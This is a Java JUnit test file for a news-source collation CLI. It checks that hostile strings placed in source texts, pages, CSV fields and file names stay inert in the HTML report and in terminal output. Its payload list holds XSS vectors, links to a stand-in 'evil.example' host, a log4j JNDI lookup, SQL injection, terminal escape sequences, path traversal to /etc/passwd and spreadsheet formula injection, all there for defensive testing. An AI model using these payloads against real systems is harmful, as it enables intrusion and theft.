// SPDX-License-Identifier: Apache-2.0
package org.firsthand.app.cli;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.InvalidPathException;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.TreeSet;
import java.util.stream.Collectors;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.condition.EnabledIfSystemProperty;
import org.junit.jupiter.api.io.TempDir;

/// Sources that want to run in the report, to steer the terminal, or to reach beyond their folder;
/// the whole way through.
class HostileTest {
    private static final String ESC = "\u001b";

    private static final List<String> PAYLOADS =
            List.of(
                    "<script>alert(1)</script>",
                    "</script><script>alert(2)</script>",
                    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
                    "<scr<script>ipt>alert(3)</scr</script>ipt>",
                    "</style><style>body{display:none}</style>",
                    "</title><script>alert(4)</script>",
                    "<img src=x onerror=alert(5)>",
                    "<img src=x:x onerror\u000c=alert(6)//",
                    "\"><img src=x onerror=alert(7)>",
                    "' onmouseover='alert(8)",
                    "\" autofocus onfocus=\"alert(9)",
                    "`onclick=`alert(10)",
                    "<body onload=alert(11)>",
                    "<details open ontoggle=alert(12)>x</details>",
                    "<marquee onstart=alert(13)>x</marquee>",
                    "<video><source onerror=alert(14)>",
                    "<svg onload=alert(15)>",
                    "<svg><script>alert(16)</script></svg>",
                    "<svg><a xlink:href=\"javascript:alert(17)\"><text>x</text></a></svg>",
                    "<svg><animate onbegin=alert(18) attributeName=x></svg>",
                    "<math><mi xlink:href=\"javascript:alert(19)\">x</mi></math>",
                    "<svg><style><img title=\"</style><img src=x onerror=alert(20)>\">",
                    "<noscript><p title=\"</noscript><img src=x onerror=alert(21)>\">",
                    "<a href=\"javascript:alert(22)\">x</a>",
                    "<a href=\"jAvAsCrIpT&colon;alert(23)\">x</a>",
                    "<a href=\"java\tscript:alert(24)\">x</a>",
                    "<a href=\"data:text/html,<script>alert(25)</script>\">x</a>",
                    "javascript:alert(26)",
                    "data:text/html;base64,PHNjcmlwdD4=",
                    "vbscript:msgbox(27)",
                    "<iframe src=javascript:alert(28)></iframe>",
                    "<iframe srcdoc=\"<script>alert(29)</script>\"></iframe>",
                    "<object data=x.swf></object>",
                    "<embed src=x.swf>",
                    "<form action=//evil.example><button>go</button></form>",
                    "<isindex action=//evil.example>",
                    "<base href=//evil.example/>",
                    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
                    "<link rel=stylesheet href=//evil.example/x.css>",
                    "<template><script>alert(30)</script></template>",
                    "<!--><script>alert(31)</script>-->",
                    "<![CDATA[<script>alert(32)</script>]]>",
                    "<?xml version=\"1.0\"?><?php echo 1 ?>",
                    "&lt;script&gt;alert(33)&lt;/script&gt;",
                    "&#60;img src=x onerror=alert(34)&#62;",
                    "\\u003cscript\\u003ealert(35)",
                    "{{constructor.constructor('alert(36)')()}}",
                    "${7*7}",
                    "#{7*7}",
                    "<%= 7*7 %>",
                    "${jndi:ldap://evil.example/a}",
                    "%s%n%x %1$s",
                    "';DROP TABLE claims;--",
                    ESC + "[31mred" + ESC + "[0m",
                    ESC + "]0;owned\u0007",
                    ESC + "]8;;http://evil.example" + ESC + "\\link" + ESC + "]8;;" + ESC + "\\",
                    "\u009b2J",
                    "\u0008\u0008\u0008erased",
                    "before\rafter",
                    "\u202Egnp.exe\u202C",
                    "\u2066left\u2069\u2067right",
                    "nul\u0000byte",
                    "line\r\nX-Header: yes",
                    "\u2028\u2029separators",
                    "\ufeff\u200b\u00adinvisible",
                    "\ud83d\udca9\ud800lone",
                    "../../../../etc/passwd",
                    "..\\..\\windows\\win.ini",
                    "file:///etc/passwd",
                    "\\\\evil.example\\share",
                    "A".repeat(4000),
                    "=HYPERLINK(\"http://evil.example\",\"x\")",
                    "=cmd|' /C calc'!A0",
                    "+1+1",
                    "@SUM(1)",
                    "-2+3");

    @TempDir Path temp;

    @Test
    void nothingInSourcesBecomesActive() throws IOException {
        assertThat(PAYLOADS).doesNotHaveDuplicates().hasSizeGreaterThan(60);
        assertHarmless(PAYLOADS);
        assertThat(Jsoup.parse(Files.readString(temp.resolve("report.html"))).text())
                .as("what is harmless because it is shown as text")
                .contains(
                        "<script>alert(1)</script>",
                        "<img src=x onerror=alert(5)>",
                        "javascript:alert(26)",
                        "../../../../etc/passwd");
    }

    /// For lists of hostile strings from elsewhere: files of a string a line.
    @Test
    @EnabledIfSystemProperty(
            named = "firsthand.hostile",
            matches = ".+",
            disabledReason = "no list of hostile strings given")
    void nothingInAListFromElsewhereBecomesActive() throws IOException {
        var payloads = new ArrayList<String>();
        for (var file : System.getProperty("firsthand.hostile", "").split(":")) {
            Files.readAllLines(Path.of(file), UTF_8).stream()
                    .filter(line -> !line.isBlank())
                    .forEach(payloads::add);
        }
        assertThat(payloads).isNotEmpty();
        for (int from = 0; from < payloads.size(); from += 80) {
            temp = Files.createDirectories(temp.resolve("n"));
            assertHarmless(payloads.subList(from, Math.min(payloads.size(), from + 80)));
        }
        System.out.println(payloads.size() + " hostile strings stayed text");
    }

    private void assertHarmless(List<String> payloads) throws IOException {
        var pile = layOut(payloads);
        var report = temp.resolve("report.html");

        var ran = Ran.of("report", pile, "-o", report);

        assertThat(ran.code()).isZero();
        assertThat(ran.err()).isEmpty();
        assertNothingActive(Files.readString(report));
        assertPlain(ran.out());
        for (var step : List.of("read", "collate", "claims", "weigh")) {
            assertPlain(Ran.of(step, pile).out());
            assertThat(Ran.of(step, "--json", pile).json()).isNotEmpty();
        }
        var claim = Ran.of("claims", "--json", pile).json("claim").getFirst().get("id").asString();
        assertPlain(Ran.of("explain", claim, pile).out());
        try (var beside = Files.list(temp)) {
            assertThat(beside)
                    .allMatch(
                            file -> file.equals(pile) || file.equals(report) || file.endsWith("n"));
        }
    }

    /// Each payload as title, author, outlet, address, comment, body and file name, in text, page
    /// and `sources.csv`.
    private Path layOut(List<String> payloads) throws IOException {
        var pile = Files.createDirectories(temp.resolve("pile"));
        var table = new StringBuilder("file,url,outlet,published,captured\n");
        for (int i = 0; i < payloads.size(); i++) {
            var payload = payloads.get(i);
            Files.writeString(
                    pile.resolve(i + ".txt"), text(payload, i).replaceAll("[\ud800-\udfff]", "?"));
            Files.writeString(
                    pile.resolve(i + ".html"), page(payload, i).replaceAll("[\ud800-\udfff]", "?"));
            table.append(i)
                    .append(".txt,")
                    .append(field(payload))
                    .append(',')
                    .append(field(payload))
                    .append(",2021-03-04,\n");
            name(pile, payload, i);
        }
        table.append("nobody").append(field(payloads.getFirst())).append(",,,,\n");
        Files.writeString(
                pile.resolve("sources.csv"), table.toString().replaceAll("[\ud800-\udfff]", "?"));
        return pile;
    }

    private static String text(String payload, int i) {
        return payload
                + "\n\nMayor "
                + payload
                + " said the ferry pier will stay shut until the end of April, number "
                + i
                + ".\n\n\""
                + payload
                + " and nothing else will be let onto that deck,\" Hanne "
                + payload
                + " said.\n\n"
                + shared(payload)
                + "\n\nAccording to "
                + payload
                + ", the bakery will close.\nBy "
                + payload
                + "\n";
    }

    private static String page(String payload, int i) {
        var quoted = payload.replace("&", "&amp;").replace("<", "&lt;").replace("\"", "&quot;");
        return "<!DOCTYPE html><html lang=\"en\"><head><title>"
                + quoted
                + "</title><meta name=\"author\" content=\""
                + quoted
                + "\"><meta property=\"og:site_name\" content=\""
                + quoted
                + "\"><meta property=\"og:title\" content=\""
                + quoted
                + "\"><link rel=\"canonical\" href=\""
                + quoted
                + "\"><meta property=\"article:published_time\" content=\"2021-03-0"
                + (1 + i % 9)
                + "\"></head><body onload=\"alert(0)\"><article><h1>"
                + quoted
                + "</h1><p>"
                + quoted
                + "</p>"
                + "<p>"
                + shared(quoted)
                + "</p><p>Hanne Osterberg said that "
                + quoted
                + " will stay where it is for the whole of the summer.</p>"
                + payload
                + "<p>The <a href=\""
                + quoted
                + "\">report</a> is long.</p></article><script>alert(0)</script></body></html>";
    }

    private static String shared(String payload) {
        return "The divers worked for nine days in water so cloudy that they had to feel for the cracks with their hands, and "
                + payload
                + " was written on the wall. Their report names the two outer bents as the weakest part and asks for new"
                + " bracing before any vehicle heavier than a van is let onto the deck of the pier.";
    }

    private static String field(String value) {
        return "\"" + value.replace("\"", "\"\"") + "\"";
    }

    /// A file with the payload in its name, where the file system has such names.
    private static void name(Path pile, String payload, int i) throws IOException {
        var name = payload.replace('/', '\u2215').replace("\u0000", "");
        try {
            Files.writeString(
                    pile.resolve("f" + i + name.substring(0, Math.min(60, name.length())) + ".txt"),
                    shared("No. " + i));
        } catch (InvalidPathException e) {
            assertThat(name.codePoints()).as("names that cannot be").anyMatch(c -> c > 0x7e);
        }
    }

    private static void assertNothingActive(String html) {
        var page = Jsoup.parse(html);
        assertThat(page.select("script")).hasSize(1);
        assertThat(page.select("style")).hasSize(1);
        assertThat(
                        page.select(
                                "iframe, frame, object, embed, applet, form, input, base, link, math, img, video, audio, template, "
                                        + "noscript, meta[http-equiv=refresh], [style], [src], [srcdoc], [formaction], [background]"))
                .isEmpty();
        assertOnlyOurPictures(page);
        page.getAllElements()
                .forEach(element ->
                        element.attributes()
                                .forEach(attribute ->
                                        assertThat(attribute.getKey())
                                                .as(element.nodeName())
                                                .doesNotStartWithIgnoringCase("on")));
        assertThat(page.select("a[href]").eachAttr("href"))
                .allMatch(href ->
                        href.startsWith("#")
                                || href.startsWith("http://")
                                || href.startsWith("https://"));
        assertSafelyClosed(page, html);
    }

    /// Pictures are ours, and hold shapes and words alone.
    private static void assertOnlyOurPictures(Document page) {
        assertThat(page.select("svg:not(.wide):not(.narrow):not(.swatch)")).isEmpty();
        assertThat(page.select("svg *"))
                .extracting(e -> e.nodeName())
                .isSubsetOf("title", "desc", "g", "a", "line", "rect", "path", "circle", "text");
    }

    /// Nothing stands behind the page's end, and nothing in it is hidden in a comment or steers the
    /// eye.
    private static void assertSafelyClosed(Document page, String html) {
        assertThat(page.select("html > *"))
                .extracting(e -> e.nodeName())
                .containsExactly("head", "body");
        assertThat(page.body().children())
                .extracting(e -> e.nodeName())
                .containsExactly("main", "script");
        assertThat(html).doesNotContain("<!--").doesNotContain("<![CDATA[").doesNotContain("<?");
        assertThat(page.select("meta[http-equiv]").eachAttr("content"))
                .singleElement()
                .asString()
                .startsWith("default-src 'none'");
        assertThat(steering(html))
                .as("all but tab and carriage return, which HTML takes for blanks")
                .isSubsetOf("9", "d");
    }

    private static void assertPlain(String printed) {
        assertThat(printed).isNotEmpty();
        assertThat(steering(printed)).isEmpty();
        assertThat(printed).doesNotContain("\u2028", "\u2029");
    }

    /// Controls but for the end of a line, and what turns the direction of writing; as code points
    /// in hexadecimal.
    private static Set<String> steering(String text) {
        return text.codePoints()
                .filter(c ->
                        c < 0x20 && c != '\n'
                                || c >= 0x7f && c < 0xa0
                                || c >= 0x202a && c <= 0x202e
                                || c >= 0x2066 && c <= 0x2069)
                .mapToObj(Integer::toHexString)
                .collect(Collectors.toCollection(TreeSet::new));
    }
}
